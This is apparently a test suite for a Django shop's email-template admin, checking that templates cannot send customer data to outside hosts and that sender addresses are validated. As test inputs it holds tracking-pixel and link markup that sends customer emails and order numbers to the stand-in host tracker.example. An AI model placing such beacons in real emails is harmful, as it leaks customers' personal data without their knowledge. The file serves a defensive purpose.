"""What template editors can no longer do with customers' data: build addresses from it, point
emails at other hosts, save senders that make every email fail."""

import pytest
from django.urls import reverse

from messaging.models import Message
from tests.factories import publish_newest
from tests.messaging.helpers import complete, message_of
from tests.messaging.test_admin import change_url, form_data

pytestmark = pytest.mark.django_db

TRACKER = '<img src="https://tracker.example/p.gif?e={{ customer.email }}">'


def test_a_variable_in_an_image_address_is_refused_on_save(admin_client, confirmation_template):
    url = change_url(confirmation_template)
    data = form_data(admin_client, url, "messagetemplate_form")
    data["html_body"] = "<p>Hej {{ customer.first_name }}</p>\n" + TRACKER

    response = admin_client.post(url, data)

    assert response.status_code == 200
    page = response.content.decode()
    assert "Line 2: the src attribute of &lt;img&gt; contains a template variable or tag" in page
    confirmation_template.refresh_from_db()
    assert "tracker" not in confirmation_template.html_body


def test_a_remote_image_on_another_host_is_refused_on_save(admin_client, confirmation_template):
    url = change_url(confirmation_template)
    data = form_data(admin_client, url, "messagetemplate_form")
    data["html_body"] = '<img src="https://tracker.example/p.gif">'

    page = admin_client.post(url, data).content.decode()

    assert "points at “tracker.example”, which is not an allowed host" in page


def test_a_remote_image_on_an_allowed_host_is_saved(
    admin_client, settings, confirmation_template, mailoutbox
):
    settings.EMAIL_ALLOWED_URL_HOSTS = ["cdn.nordicgoods.example"]
    url = change_url(confirmation_template)
    data = form_data(admin_client, url, "messagetemplate_form")
    data["html_body"] = '<img src="https://cdn.nordicgoods.example/logo.png" alt="">'

    assert admin_client.post(url, data).status_code == 302
    publish_newest(confirmation_template)
    complete()
    assert "https://cdn.nordicgoods.example/logo.png" in mailoutbox[0].alternatives[0][0]


def test_layouts_are_checked_too(admin_client, confirmation_template):
    layout = confirmation_template.layout
    url = change_url(layout)
    data = form_data(admin_client, url, "layout_form")
    data["html_footer"] = '<a href="https://tracker.example/?n={{ order.number }}">x</a>'
    data["css"] = "body { background: url(https://tracker.example/bg.png) }"

    page = admin_client.post(url, data).content.decode()

    assert "the href attribute of &lt;a&gt; contains a template variable" in page
    assert "url() points at “tracker.example”" in page
    assert layout.revisions.count() == 1


def test_a_template_saved_before_the_check_fails_its_message_instead_of_calling_out(
    confirmation_template, mailoutbox
):
    confirmation_template.html_body = TRACKER  # straight to the database, as before the check
    confirmation_template.save()
    publish_newest(confirmation_template)

    message = message_of(complete())

    assert message.status == Message.Status.FAILED
    assert "not an allowed host" in message.last_error
    assert mailoutbox == []


def test_restoring_a_revision_that_fails_the_checks_is_refused(admin_client, confirmation_template):
    confirmation_template.html_body = TRACKER
    confirmation_template.save()
    bad = confirmation_template.current_revision()
    confirmation_template.html_body = "<p>fine</p>"
    confirmation_template.save()
    url = reverse(
        "admin:messaging_messagetemplate_restore", args=[confirmation_template.pk, bad.pk]
    )

    page = admin_client.post(url, follow=True).content.decode()

    assert "Not restored" in page
    confirmation_template.refresh_from_db()
    assert confirmation_template.html_body == "<p>fine</p>"


# --- From and Reply-To --------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["not an address", "orders@", "a@example.com, b@example.com", "Shop <orders@example"],
)
@pytest.mark.parametrize("field", ["from_email", "reply_to"])
def test_a_bad_sender_is_a_form_error(admin_client, confirmation_template, field, value):
    url = change_url(confirmation_template)
    data = form_data(admin_client, url, "messagetemplate_form")
    data[field] = value

    response = admin_client.post(url, data)

    assert response.status_code == 200
    assert "is not a single email address" in response.content.decode()
    confirmation_template.refresh_from_db()
    assert getattr(confirmation_template, field) == ""


def test_a_good_sender_is_saved_and_used(admin_client, confirmation_template, mailoutbox):
    url = change_url(confirmation_template)
    data = form_data(admin_client, url, "messagetemplate_form")
    data["from_email"] = "Nordic Goods <orders@nordicgoods.example>"
    data["reply_to"] = "help@nordicgoods.example"

    assert admin_client.post(url, data).status_code == 302
    publish_newest(confirmation_template)
    complete()
    assert mailoutbox[0].from_email == "Nordic Goods <orders@nordicgoods.example>"
    assert mailoutbox[0].reply_to == ["help@nordicgoods.example"]
